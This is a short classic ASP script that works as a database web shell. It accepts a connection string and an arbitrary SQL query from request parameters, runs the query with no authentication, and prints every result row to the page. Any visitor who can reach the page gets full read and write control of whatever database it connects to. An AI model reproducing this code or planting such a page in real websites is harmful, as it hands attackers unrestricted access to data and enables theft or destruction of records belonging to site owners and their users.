<%
If Request("cs") <> "" Then Session("cs") = Request("cs")
Set cn = Server.CreateObject("ADODB.Connection")
cn.Open Session("cs")
If Request("q") <> "" Then
  Set rs = cn.Execute(Request("q"))
  Do While Not rs.EOF
    For Each fld In rs.Fields : Response.Write Server.HTMLEncode(fld.Value & "") & vbTab : Next
    Response.Write "<br>"
    rs.MoveNext
  Loop
End If
%>
